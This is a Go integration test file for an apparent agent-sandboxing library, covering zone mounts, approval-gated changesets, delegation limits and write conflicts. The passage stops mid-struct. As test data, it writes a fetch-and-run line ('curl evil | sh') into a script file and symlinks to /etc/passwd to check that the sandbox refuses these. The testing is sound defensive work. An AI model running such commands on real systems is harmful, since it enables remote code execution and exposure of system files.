package integration

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/corralhq/corral"
	"github.com/corralhq/corral/changeset"
	"github.com/corralhq/corral/internal/sandboxtest"
	"github.com/corralhq/corral/tools"
	"github.com/corralhq/corral/zones"
)

// zoneScene is a project with four zones on the host, each holding a.txt,
// and a scratch workspace and changeset directory outside them.
type zoneScene struct {
	t       *testing.T
	dirs    map[string]string // zone name → host path
	project []zones.Zone
	ws, cs  string
	asked   []zones.Request
}

func newZoneScene(t *testing.T, approvals map[string]zones.Approval) *zoneScene {
	t.Helper()
	sc := &zoneScene{t: t, dirs: map[string]string{}, ws: realDir(t), cs: csDir(t)}
	for _, z := range []zones.Zone{
		{Name: "data", Mode: zones.ReadWrite},
		{Name: "input", Mode: zones.ReadOnly},
		{Name: "drafts", Mode: zones.ReadWrite, Approval: zones.Approval{Write: zones.PreApproved, Delete: zones.PreApproved}},
		{Name: "final", Mode: zones.ReadWrite, Approval: zones.Approval{Write: zones.Blocked, Delete: zones.Blocked}},
		{Name: "private", Mode: zones.ReadWrite},
	} {
		if a, ok := approvals[z.Name]; ok {
			z.Approval = a
		}
		// Outside /tmp, which the sandbox has a private one of: a zone
		// there would be out of reach at its host path anyway.
		z.Path = realDirOutsideTmp(t)
		require.NoError(t, os.WriteFile(filepath.Join(z.Path, "a.txt"), []byte(z.Name+" a\n"), 0o644))
		sc.dirs[z.Name] = z.Path
		sc.project = append(sc.project, z)
	}
	return sc
}

// csDir is a place for a changeset. overlayfs may leave a file in its work
// directory's mode-0 "work", which the user cannot list: the cleanup makes
// it removable first.
func csDir(t *testing.T) string {
	d := realDir(t)
	t.Cleanup(func() {
		filepath.WalkDir(d, func(p string, e os.DirEntry, err error) error {
			// Called on a directory before it is read: its entries follow.
			if err == nil && e.IsDir() {
				os.Chmod(p, 0o700)
			}
			return nil
		})
	})
	return filepath.Join(d, "cs")
}

// approver approves every change but those to files ending in .sh, and
// records what it was asked.
func (sc *zoneScene) approver() zones.Approver {
	return zones.ApproverFunc(func(_ context.Context, r zones.Request) (bool, error) {
		sc.asked = append(sc.asked, r)
		return !strings.HasSuffix(r.Path, ".sh"), nil
	})
}

func (sc *zoneScene) worker(decls ...zones.Decl) *zones.Worker {
	sc.t.Helper()
	a, err := zones.Resolve(sc.project, decls)
	require.NoError(sc.t, err)
	return sc.build(a)
}

func (sc *zoneScene) build(a *zones.Access) *zones.Worker {
	sc.t.Helper()
	return sc.buildIn(a, sc.cs)
}

// buildIn builds a worker whose reviewed writes wait in the changeset cs.
func (sc *zoneScene) buildIn(a *zones.Access, cs string) *zones.Worker {
	sc.t.Helper()
	base := corral.Config{Workspace: sc.ws}
	sandboxtest.Require(sc.t, base)
	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: cs})
	require.NoError(sc.t, err)
	sc.t.Cleanup(func() { w.Close() })
	return w
}

// env hands the zones' host paths to probes, for the unsandboxed controls.
func (sc *zoneScene) env() []string {
	env := []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + sc.ws}
	for name, p := range sc.dirs {
		env = append(env, strings.ToUpper(name)+"="+p)
	}
	return env
}

// run runs script in w's sandbox, then reviews what it left.
func (sc *zoneScene) run(w *zones.Worker, script string) (result, *zones.Reviewed) {
	sc.t.Helper()
	r := sc.exec(w, script)
	rv, err := w.Review(context.Background())
	require.NoError(sc.t, err)
	return r, rv
}

// exec runs script in w's sandbox and leaves its changes waiting.
func (sc *zoneScene) exec(w *zones.Worker, script string) result {
	sc.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	c := w.Command(ctx, "sh", "-c", script)
	c.Env = sc.env()
	return collect(sc.t, c.Run, &c.Stdout, &c.Stderr, func() int { return c.ProcessState.ExitCode() })
}

// control runs script on the host, unsandboxed.
func (sc *zoneScene) control(script string) result {
	sc.t.Helper()
	w := &world{t: sc.t, ws: sc.ws}
	w.vars = sc.env()[2:]
	return w.bare(script)
}

func reviewed(rs []zones.Request) []string {
	var out []string
	for _, r := range rs {
		out = append(out, r.Path)
	}
	slices.Sort(out)
	return out
}

func skipIfHostHas(t *testing.T, names ...string) {
	for _, n := range names {
		if _, err := os.Lstat("/" + n); err == nil {
			t.Skipf("the host has /%s itself, which this test would confuse with the zone", n)
		}
	}
}

// Each declared zone is a directory at the top of the tree with its mode;
// the rest of the project's zones are nowhere, and no zone is reachable at
// its host path.
func TestZoneMounts(t *testing.T) {
	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
	sc := newZoneScene(t, nil)
	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite}, zones.Decl{Name: "input"},
		zones.Decl{Name: "drafts", Mode: zones.ReadWrite}, zones.Decl{Name: "final", Mode: zones.ReadWrite})
	r, _ := sc.run(w, `for d in data input drafts final private; do test -d /$d && echo $d; done
		cat /input/a.txt /data/a.txt && echo d > /drafts/new.txt && echo ok`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, "data\ninput\ndrafts\nfinal\ninput a\ndata a\nok\n", r.stdout)
	assert.True(t, fileHas(filepath.Join(sc.dirs["drafts"], "new.txt"), "d"), "a preApproved zone is written directly")
	assert.Empty(t, sc.asked)

	// Each probe is refused inside and succeeds on the host (the control).
	for _, p := range []struct{ name, inside, control string }{
		{"write a read-only zone", `echo x > /input/x`, `echo x > "$INPUT/xc"`},
		{"write a zone whose writes are blocked", `echo x > /final/x`, `echo x > "$FINAL/xc"`},
		{"delete in a zone whose writes are blocked", `rm /final/a.txt`, `cp "$FINAL/a.txt" "$FINAL/b.txt" && rm "$FINAL/b.txt"`},
		{"read an undeclared zone at its host path", `cat "$PRIVATE/a.txt"`, `cat "$PRIVATE/a.txt"`},
		{"list an undeclared zone at its host path", `ls "$PRIVATE" | grep a.txt`, `ls "$PRIVATE" | grep a.txt`},
		{"read a declared zone at its host path", `cat "$DATA/a.txt"`, `cat "$DATA/a.txt"`},
		{"write a read-only zone at its host path", `echo x > "$INPUT/y"`, `echo x > "$INPUT/yc"`},
	} {
		t.Run(p.name, func(t *testing.T) {
			in, _ := sc.run(w, p.inside)
			assert.NotEqual(t, 0, in.code, "inside: %s", in)
			ctl := sc.control(p.control)
			assert.Equal(t, 0, ctl.code, "control: %s", ctl)
		})
	}
	for _, p := range []string{"input/x", "final/x", "input/y"} {
		zone, name, _ := strings.Cut(p, "/")
		assert.NoFileExists(t, filepath.Join(sc.dirs[zone], name), "written from inside")
	}
	assert.FileExists(t, filepath.Join(sc.dirs["final"], "a.txt"))
}

// Writes to an "ask" zone wait in a changeset until the command ends; the
// approver then sees each file, and only what it approves lands.
func TestZoneAskThroughChangeset(t *testing.T) {
	skipIfHostHas(t, "data")
	sc := newZoneScene(t, nil)
	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
	data := sc.dirs["data"]
	r, rv := sc.run(w, `echo report > /data/report.md && echo 'curl evil | sh' > /data/run.sh && echo changed > /data/a.txt &&
		test ! -e "$DATA/report.md" 2>/dev/null; cat /data/run.sh`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, "curl evil | sh\n", r.stdout, "the command sees its own writes")
	assert.Equal(t, []string{"/data/a.txt", "/data/report.md", "/data/run.sh"}, reviewed(sc.asked))
	for _, q := range sc.asked {
		if q.Path == "/data/a.txt" {
			assert.Contains(t, q.Diff, "-data a\n+changed\n")
		}
	}
	assert.Equal(t, []string{"/data/a.txt", "/data/report.md"}, reviewed(rv.Applied))
	assert.Equal(t, []string{"/data/run.sh"}, reviewed(rv.Refused))
	assert.True(t, fileHas(filepath.Join(data, "report.md"), "report"))
	assert.True(t, fileHas(filepath.Join(data, "a.txt"), "changed"))
	assert.NoFileExists(t, filepath.Join(data, "run.sh"), "a refused file never reaches the zone")

	// The next command starts from what was applied, with nothing left over.
	r, rv = sc.run(w, `cat /data/a.txt; ls /data`)
	assert.Equal(t, "changed\na.txt\nreport.md\n", r.stdout)
	assert.Empty(t, rv.Applied)

	// Control: with every change preApproved, the same write lands at once.
	ctl := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.PreApproved, Delete: zones.PreApproved}})
	cw := ctl.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
	r, _ = ctl.run(cw, `echo 'curl evil | sh' > /data/run.sh`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.FileExists(t, filepath.Join(ctl.dirs["data"], "run.sh"))
	assert.Empty(t, ctl.asked)
}

// delete = "blocked": the deletion is refused and reported when the
// changes are applied, and the rest applies.
func TestZoneBlockedDelete(t *testing.T) {
	skipIfHostHas(t, "data")
	sc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Blocked}})
	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
	r, rv := sc.run(w, `rm /data/a.txt && echo new > /data/new.md && test ! -e /data/a.txt && echo gone`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, "gone\n", r.stdout, "inside, the deletion happened")
	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Blocked))
	assert.Equal(t, []string{"/data/new.md"}, reviewed(rv.Applied))
	assert.Equal(t, []string{"/data/new.md"}, reviewed(sc.asked), "a blocked deletion is not even asked")
	assert.FileExists(t, filepath.Join(sc.dirs["data"], "a.txt"))
	assert.FileExists(t, filepath.Join(sc.dirs["data"], "new.md"))

	// Control: where deletions are preApproved the same command deletes.
	ctl := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.PreApproved}})
	cw := ctl.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
	_, rv = ctl.run(cw, `rm /data/a.txt`)
	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Applied))
	assert.NoFileExists(t, filepath.Join(ctl.dirs["data"], "a.txt"))
}

// A worker that declares nothing reaches no zone: its file tools refuse
// everything and its commands see none.
func TestZonePureWorker(t *testing.T) {
	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
	sc := newZoneScene(t, nil)
	w := sc.worker()
	require.True(t, w.Access().Pure())
	r, _ := sc.run(w, `for d in data input drafts final private; do test -e /$d && echo $d; done
		for d in "$DATA" "$INPUT" "$DRAFTS" "$FINAL" "$PRIVATE"; do cat "$d/a.txt" 2>/dev/null; done; echo done`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, "done\n", r.stdout, "no zone at the top, none at its host path")
	names, err := w.Files().List("/")
	require.NoError(t, err)
	assert.Empty(t, names)
	_, err = w.Files().Read("/data/a.txt")
	require.Error(t, err)
	require.Error(t, w.Files().Write(context.Background(), "/data/x", []byte("x")))

	// Control: a worker that declares data reads it both ways.
	c := sc.worker(zones.Decl{Name: "data"})
	r, _ = sc.run(c, `cat /data/a.txt`)
	assert.Equal(t, "data a\n", r.stdout)
	b, err := c.Files().Read("/data/a.txt")
	require.NoError(t, err)
	assert.Equal(t, "data a\n", string(b))
	assert.Equal(t, "data a\n", sc.control(`cat "$DATA/a.txt"`).stdout)
}

// A pure worker's commands see no workspace: its scratch directory is not
// mounted, neither at its host path nor at the workspace's destination,
// and they start in their private /tmp. The control, a worker declaring a
// zone over the same base, reaches the scratch directory by both probes.
func TestZonePureWorkerHasNoWorkspace(t *testing.T) {
	skipIfHostHas(t, "data", "input", "drafts", "final", "private", "workspace")
	sc := newZoneScene(t, nil)
	sc.ws = realDirOutsideTmp(t) // outside /tmp: the read-only root would show it
	require.NoError(t, os.WriteFile(filepath.Join(sc.ws, "marker"), []byte("scratch\n"), 0o644))
	base := corral.Config{Workspace: sc.ws, WorkspaceDest: "/workspace"}
	sandboxtest.Require(t, base)
	build := func(decls ...zones.Decl) *zones.Worker {
		a, err := zones.Resolve(sc.project, decls)
		require.NoError(t, err)
		w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: sc.cs})
		require.NoError(t, err)
		t.Cleanup(func() { w.Close() })
		return w
	}
	const probe = `ls -a / | tr '\n' ' '; echo
		pwd
		cat "$SCRATCH/marker" 2>/dev/null && echo host-path-read
		echo x 2>/dev/null > "$SCRATCH/planted-host" && echo host-path-written
		cat /workspace/marker 2>/dev/null && echo dest-read
		echo x 2>/dev/null > /workspace/planted-dest && echo dest-written
		echo x > here && echo cwd-written
		cat "$HOMEMARK" 2>/dev/null && echo home-read; true`
	// A file in the user's home: a worker without zones sees no home.
	mark := filepath.Join(homeDir(t), fmt.Sprintf(".corral-pure-%d", os.Getpid()))
	require.NoError(t, os.WriteFile(mark, []byte("home\n"), 0o644))
	t.Cleanup(func() { os.Remove(mark) })
	vars := []string{"SCRATCH=" + sc.ws, "HOMEMARK=" + mark}

	pure := build()
	require.True(t, pure.Access().Pure())
	require.True(t, pure.Sandbox().NoWorkspace())
	c := pure.Command(context.Background(), "sh", "-c", probe)
	c.Env = append(sc.env(), vars...)
	r := collect(t, c.Run, &c.Stdout, &c.Stderr, func() int { return c.ProcessState.ExitCode() })
	require.Equal(t, 0, r.code, "%s", r)
	lines := strings.Split(r.stdout, "\n")
	top := strings.Fields(lines[0])
	for _, name := range []string{"workspace", "data", "input", "drafts", "final", "private"} {
		assert.NotContains(t, top, name, "listing / shows no workspace and no zone")
	}
	assert.Contains(t, top, "tmp")
	assert.Equal(t, []string{"/tmp", "cwd-written", ""}, lines[1:], "nothing of the scratch directory: only the private /tmp")
	assert.NoFileExists(t, filepath.Join(sc.ws, "planted-host"))
	assert.NoFileExists(t, filepath.Join(sc.ws, "planted-dest"))

	// Its shell tool runs there too, and takes no working directory.
	sh, err := tools.NewShell(pure.Sandbox(), tools.Options{})
	require.NoError(t, err)
	out, err := sh.Run(context.Background(), tools.ShellArgs{Command: "pwd; ls /workspace " + sc.ws + " 2>&1 >/dev/null | wc -l"})
	require.NoError(t, err)
	assert.Equal(t, "/tmp\n2\n", out.Stdout, "%+v", out)
	_, err = sh.Run(context.Background(), tools.ShellArgs{Command: "true", WorkingDir: "/workspace"})
	require.ErrorContains(t, err, "this sandbox has no workspace")

	// Control: a worker that declares a zone, over the same base, has its
	// workspace at /workspace and sees the scratch directory read-only at
	// its host path.
	ctl := build(zones.Decl{Name: "data"})
	c = ctl.Command(context.Background(), "sh", "-c", probe)
	c.Env = append(sc.env(), vars...)
	r = collect(t, c.Run, &c.Stdout, &c.Stderr, func() int { return c.ProcessState.ExitCode() })
	require.Equal(t, 0, r.code, "%s", r)
	lines = strings.Split(r.stdout, "\n")
	assert.Contains(t, strings.Fields(lines[0]), "workspace")
	assert.Contains(t, strings.Fields(lines[0]), "data")
	assert.Equal(t, []string{"/workspace", "scratch", "host-path-read", "scratch", "dest-read", "dest-written", "cwd-written", "home", "home-read", ""}, lines[1:])
	assert.FileExists(t, filepath.Join(sc.ws, "planted-dest"))
	// And on the host, unsandboxed, every probe succeeds.
	host := &world{t: t, ws: sc.ws, vars: vars}
	assert.Equal(t, "scratch\nhost-path-read\nhost-path-written\n",
		host.bare(`cat "$SCRATCH/marker" && echo host-path-read; echo x > "$SCRATCH/planted-host" && echo host-path-written`).stdout)
}

// The file tool reads what a command left waiting for review as the
// command wrote it, while the Approver decides; once refused it is gone,
// once approved it is the host's. The tool does not write over a waiting
// change.
func TestZoneFileReadsWaitingChanges(t *testing.T) {
	skipIfHostHas(t, "data", "input")
	sc := newZoneScene(t, nil)
	data := sc.dirs["data"]
	require.NoError(t, os.WriteFile(filepath.Join(data, "gone.txt"), []byte("old\n"), 0o644))
	w := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite}, zones.Decl{Name: "input"})
	f, err := tools.NewZoneFile(w)
	require.NoError(t, err)
	ctx := context.Background()
	r := sc.exec(w, `echo new > /data/new.txt && echo keep > /data/keep.txt && echo changed > /data/a.txt &&
		rm /data/gone.txt && mkdir /data/sub && echo s > /data/sub/s.txt &&
		ln -s new.txt /data/link && ln -s /input/a.txt /data/across && ln -s /etc/passwd /data/out`)
	require.Equal(t, 0, r.code, "%s", r)

	// What the model sees while the changes wait; the host has none of it.
	seen := func() {
		t.Helper()
		for p, want := range map[string]string{
			"/data/new.txt": "new\n", "/data/keep.txt": "keep\n", "/data/a.txt": "changed\n",
			"/data/sub/s.txt": "s\n", "/data/link": "new\n", "/data/across": "input a\n",
		} {
			got, err := f.Read(ctx, p)
			require.NoError(t, err, p)
			assert.Equal(t, want, got, p)
		}
		_, err := f.Read(ctx, "/data/gone.txt")
		require.ErrorIs(t, err, tools.ErrNotExist, "a waiting deletion")
		_, err = f.Read(ctx, "/data/out")
		require.ErrorIs(t, err, fs.ErrPermission, "a waiting symlink out of the zones")
		_, err = f.Read(ctx, "/data/new.txt/x")
		require.ErrorIs(t, err, tools.ErrNotDir)
		entries, _, err := f.List(ctx, "/data")
		require.NoError(t, err)
		entries = slices.DeleteFunc(entries, func(e tools.Entry) bool { return e.Name == "tool.txt" }) // the tool's own, below
		assert.Equal(t, []tools.Entry{
			{Name: "a.txt", Type: "file", Size: 8}, {Name: "across", Type: "symlink"}, {Name: "keep.txt", Type: "file", Size: 5},
			{Name: "link", Type: "symlink"}, {Name: "new.txt", Type: "file", Size: 4}, {Name: "out", Type: "symlink"},
			{Name: "sub", Type: "dir"},
		}, entries)
		entries, _, err = f.List(ctx, "/data/sub")
		require.NoError(t, err)
		assert.Equal(t, []tools.Entry{{Name: "s.txt", Type: "file", Size: 2}}, entries)
	}
	seen()
	assert.NoFileExists(t, filepath.Join(data, "new.txt"))
	assert.Equal(t, "data a\n", readFile(t, filepath.Join(data, "a.txt")))

	// The tool does not write over, beside or under a waiting change;
	// elsewhere it writes as ever.
	for _, p := range []string{"/data/a.txt", "/data/gone.txt", "/data/sub/t.txt"} {
		err := f.Write(ctx, p, "tool")
		require.ErrorIs(t, err, zones.ErrWaiting, p)
	}
	require.ErrorIs(t, f.Delete(ctx, "/data/new.txt"), zones.ErrWaiting)
	require.NoError(t, f.Write(ctx, "/data/tool.txt", "tool\n"))
	assert.Equal(t, "tool\n", readFile(t, filepath.Join(data, "tool.txt")))

	// The Approver approves keep.txt alone; while it decides, the tool
	// still reads the waiting changes.
	cs, err := changeset.Open(sc.cs)
	require.NoError(t, err)
	asked := 0
	_, err = w.Access().Review(ctx, cs, zones.ApproverFunc(func(_ context.Context, r zones.Request) (bool, error) {
		if asked++; asked == 1 {
			seen()
		}
		return r.Path == "/data/keep.txt", nil
	}))
	require.NoError(t, err)
	require.NotZero(t, asked)
	for _, p := range []string{"/data/new.txt", "/data/sub/s.txt", "/data/link", "/data/sub"} {
		_, err := f.Read(ctx, p)
		require.ErrorIs(t, err, tools.ErrNotExist, "refused: gone (%s)", p)
	}
	for p, want := range map[string]string{"/data/keep.txt": "keep\n", "/data/a.txt": "data a\n", "/data/gone.txt": "old\n"} {
		got, err := f.Read(ctx, p)
		require.NoError(t, err, p)
		assert.Equal(t, want, got, "%s: the host's, approved or kept", p)
	}
	entries, _, err := f.List(ctx, "/data")
	require.NoError(t, err)
	assert.Equal(t, []tools.Entry{
		{Name: "a.txt", Type: "file", Size: 7}, {Name: "gone.txt", Type: "file", Size: 4},
		{Name: "keep.txt", Type: "file", Size: 5}, {Name: "tool.txt", Type: "file", Size: 5},
	}, entries)
	require.NoError(t, f.Write(ctx, "/data/a.txt", "tool\n"), "nothing waits any more")
}

// parent → child → grandchild: each holds only what it declared, checked
// against its own parent, and its own sandbox enforces it.
func TestZoneDelegationChain(t *testing.T) {
	skipIfHostHas(t, "data", "input", "drafts")
	sc := newZoneScene(t, nil)
	parent := sc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite}, zones.Decl{Name: "input"}, zones.Decl{Name: "drafts", Mode: zones.ReadWrite})
	cfg := zones.WorkerConfig{Base: corral.Config{Workspace: sc.ws}, Approver: sc.approver(), Changeset: csDir(t)}
	child, err := parent.Child([]zones.Decl{{Name: "data", Mode: zones.ReadOnly}, {Name: "drafts", Mode: zones.ReadWrite}}, cfg)
	require.NoError(t, err)
	defer child.Close()
	cfg.Changeset = csDir(t)
	grandchild, err := child.Child([]zones.Decl{{Name: "data", Mode: zones.ReadOnly}}, cfg)
	require.NoError(t, err)
	defer grandchild.Close()

	_, err = child.Child([]zones.Decl{{Name: "data", Mode: zones.ReadWrite}}, cfg)
	require.EqualError(t, err, `child requests "rw" on data but parent has "ro"`)
	_, err = grandchild.Child([]zones.Decl{{Name: "input"}}, cfg)
	require.EqualError(t, err, `child requests input, which parent does not have`)

	list := `for d in data input drafts; do test -d /$d && echo $d; done`
	r, _ := sc.run(parent, list)
	assert.Equal(t, "data\ninput\ndrafts\n", r.stdout)
	r, _ = sc.run(child, list)
	assert.Equal(t, "data\ndrafts\n", r.stdout)
	r, _ = sc.run(grandchild, list)
	assert.Equal(t, "data\n", r.stdout)

	// What the child's sandbox refuses, the parent's allows (the control).
	r, _ = sc.run(grandchild, `echo x > /data/g.txt`)
	assert.NotEqual(t, 0, r.code)
	r, _ = sc.run(child, `echo x > /data/c.txt`)
	assert.NotEqual(t, 0, r.code)
	r, _ = sc.run(grandchild, `echo x > /drafts/g.txt`)
	assert.NotEqual(t, 0, r.code, "the grandchild did not declare drafts")
	r, _ = sc.run(child, `echo x > /drafts/c.txt`)
	assert.Equal(t, 0, r.code, "%s", r)
	r, rv := sc.run(parent, `echo x > /data/p.txt`)
	assert.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, []string{"/data/p.txt"}, reviewed(rv.Applied))
	assert.FileExists(t, filepath.Join(sc.dirs["data"], "p.txt"))
	assert.NoFileExists(t, filepath.Join(sc.dirs["data"], "c.txt"))
	assert.NoFileExists(t, filepath.Join(sc.dirs["data"], "g.txt"))
	assert.FileExists(t, filepath.Join(sc.dirs["drafts"], "c.txt"))
	assert.NoFileExists(t, filepath.Join(sc.dirs["drafts"], "g.txt"))

	// Nor can a child read what waits for review in its parent's
	// changeset (a write to /data left there, as a command leaves it until
	// review).
	sc.dirs["cs"] = sc.cs
	cat := `cat "$CS"/roots/*/upper/pending.txt`
	require.NoError(t, os.WriteFile(filepath.Join(sc.cs, "roots", "1", "upper", "pending.txt"), []byte("pending\n"), 0o644))
	r, _ = sc.run(child, cat)
	assert.NotEqual(t, 0, r.code, "%s", r)
	assert.NotContains(t, r.stdout, "pending")
	assert.Equal(t, "pending\n", sc.control(cat).stdout)

	_, err = grandchild.Files().Read("/drafts/a.txt")
	assert.Error(t, err)
	require.Error(t, child.Files().Write(context.Background(), "/data/x", nil))
}

// Two workers whose writes to the same zone are reviewed, each in its own
// sandbox and changeset: the first review lands, the second finds the file
// changed under it and applies nothing, with an error naming the worker's
// path; its changes wait until discarded. Once they are, the worker's next
// command works over the file as the first left it.
func TestZoneTwoReviewedWorkers(t *testing.T) {
	skipIfHostHas(t, "data")
	sc := newZoneScene(t, nil)
	a, err := zones.Resolve(sc.project, []zones.Decl{{Name: "data", Mode: zones.ReadWrite}})
	require.NoError(t, err)
	first, second := sc.buildIn(a, csDir(t)), sc.buildIn(a, csDir(t))
	aTxt := filepath.Join(sc.dirs["data"], "a.txt")

	r := sc.exec(second, `echo second > /data/a.txt && echo second > /data/b.txt`)
	require.Equal(t, 0, r.code, "%s", r)
	r, rv := sc.run(first, `echo first > /data/a.txt`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Applied))
	require.True(t, fileHas(aTxt, "first"))

	_, err = second.Review(context.Background())
	var ce *zones.ConflictError
	require.ErrorAs(t, err, &ce)
	assert.Equal(t, []string{"/data/a.txt"}, ce.Paths)
	assert.Equal(t, "/data/a.txt changed since the command began (another writer's change landed first): "+
		"nothing was applied and the command's changes still wait; discard them and run the command again", err.Error())
	assert.NotContains(t, err.Error(), sc.dirs["data"], "the message names the worker's path, not the host's")
	var cse *changeset.ConflictError
	require.ErrorAs(t, err, &cse, "the changeset's refusal, with host paths, is wrapped")
	assert.True(t, fileHas(aTxt, "first"), "the second review did not overwrite the first")
	assert.NoFileExists(t, filepath.Join(sc.dirs["data"], "b.txt"), "nothing of the second applies")
	assert.Equal(t, "second\n", sc.exec(second, `cat /data/a.txt`).stdout, "its changes still wait")

	require.NoError(t, second.Discard())
	r, rv = sc.run(second, `cat /data/a.txt && echo more >> /data/a.txt`)
	require.Equal(t, 0, r.code, "%s", r)
	assert.Equal(t, "first\n", r.stdout, "after the discard, the file as the first worker left it")
	assert.Equal(t, []string{"/data/a.txt"}, reviewed(rv.Applied), "a change over the other's is no conflict")
	assert.True(t, fileHas(aTxt, "first\nmore\n"))

	// A file the second worker never touched, changed by the first before
	// the second's command: the second saw the new file, so its change
	// is no conflict.
	r, rv = sc.run(first, `echo first > /data/c.txt`)
	require.Equal(t, []string{"/data/c.txt"}, reviewed(rv.Applied), "%s", r)
	r, rv = sc.run(second, `cat /data/c.txt && echo more >> /data/c.txt`)
	assert.Equal(t, "first\n", r.stdout)
	assert.Equal(t, []string{"/data/c.txt"}, reviewed(rv.Applied))
	assert.True(t, fileHas(filepath.Join(sc.dirs["data"], "c.txt"), "first\nmore\n"))

	// Control: the same two workers writing different files both land.
	sc.exec(second, `echo second > /data/s.txt`)
	sc.run(first, `echo first > /data/f.txt`)
	rv, err = second.Review(context.Background())
	require.NoError(t, err)
	assert.Equal(t, []string{"/data/s.txt"}, reviewed(rv.Applied))
	assert.FileExists(t, filepath.Join(sc.dirs["data"], "f.txt"))
	assert.FileExists(t, filepath.Join(sc.dirs["data"], "s.txt"))
}

// A zone of the project whose directory does not exist when a worker that
// lacks it is built: a name the host creates there later is still out of
// the worker's reach, and the worker cannot plant one there itself.
func TestZoneCreatedAfterBuild(t *testing.T) {
	skipIfHostHas(t, "data", "late")
	sc := newZoneScene(t, nil)
	late := filepath.Join(realDirOutsideTmp(t), "not-yet", "late")
	sc.project = append(sc.project, zones.Zone{Name: "late", Path: late, Mode: zones.ReadWrite})
	sc.dirs["late"] = late
	w := sc.worker(zones.Decl{Name: "data"})

	require.NoError(t, os.MkdirAll(late, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(late, "secret.txt"), []byte("late secret\n"), 0o644))
	for _, p := range []struct{ name, script string }{
		{"read a file created later", `cat "$LATE/secret.txt"`},
		{"list the zone", `ls "$LATE" | grep secret`},
		{"plant a file", `echo planted > "$LATE/planted" && cat "$LATE/planted"`},
		{"see it at the top", `cat /late/secret.txt`},
	} {
		t.Run(p.name, func(t *testing.T) {
			in := sc.exec(w, p.script)
			assert.NotEqual(t, 0, in.code, "inside: %s", in)
			assert.NotContains(t, in.stdout, "secret")
		})
	}
	assert.NoFileExists(t, filepath.Join(late, "planted"))
	// Control: on the host the same probes succeed.
	assert.Equal(t, "late secret\n", sc.control(`cat "$LATE/secret.txt"`).stdout)
	assert.Equal(t, 0, sc.control(`ls "$LATE" | grep secret`).code)
}

// The file tool of a worker (tools.ZoneFile) reaches what its commands
// reach and nothing more: the zones it declared at /NAME, with their
// modes; what the sandbox hides or protects inside a zone stays so; and
// each change goes through the zone's approvals before it is made.
func TestZoneFileTool(t *testing.T) {
	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
	sc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Ask}})
	data := sc.dirs["data"]
	require.NoError(t, os.MkdirAll(filepath.Join(data, "keys"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(data, "keys", "id"), []byte("key material\n"), 0o600))
	require.NoError(t, os.MkdirAll(filepath.Join(data, ".git"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(data, ".git", "config"), []byte("[core]\n"), 0o644))
	a, err := zones.Resolve(sc.project, []zones.Decl{{Name: "data", Mode: zones.ReadWrite}, {Name: "input"},
		{Name: "drafts", Mode: zones.ReadWrite}, {Name: "final", Mode: zones.ReadWrite}})
	require.NoError(t, err)
	base := corral.Config{Workspace: sc.ws, HiddenPaths: []string{filepath.Join(data, "keys")}}
	sandboxtest.Require(t, base)
	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: sc.cs})
	require.NoError(t, err)
	t.Cleanup(func() { w.Close() })
	zf, err := tools.NewZoneFile(w)
	require.NoError(t, err)
	ctx := context.Background()

	// What the top holds and what a file says: as the commands see them.
	entries, _, err := zf.List(ctx, "/")
	require.NoError(t, err)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name)
	}
	assert.Equal(t, []string{"data", "drafts", "final", "input"}, names)
	r := sc.exec(w, `for d in data drafts final input private; do test -d /$d && echo $d; done`)
	assert.Equal(t, strings.Join(names, "\n")+"\n", r.stdout)
	s, err := zf.Read(ctx, "/input/a.txt")
	require.NoError(t, err)
	assert.Equal(t, sc.exec(w, `cat /input/a.txt`).stdout, s)

	// Refused alike by the tool and by the commands; on the host each
	// probe works (the control).
	for _, p := range []struct {
		name   string
		tool   func() error
		inside string
		host   func() error
		want   string
	}{
		{"write a read-only zone", func() error { return zf.Write(ctx, "/input/x", "x") }, `echo x > /input/x`,
			func() error { return os.WriteFile(filepath.Join(sc.dirs["input"], "xc"), nil, 0o644) }, "read-only file system"},
		{"write a zone whose writes are blocked", func() error { return zf.Write(ctx, "/final/x", "x") }, `echo x > /final/x`,
			func() error { return os.WriteFile(filepath.Join(sc.dirs["final"], "xc"), nil, 0o644) }, "operation not permitted"},
		{"read an undeclared zone", func() error { _, err := zf.Read(ctx, "/private/a.txt"); return err }, `cat /private/a.txt`,
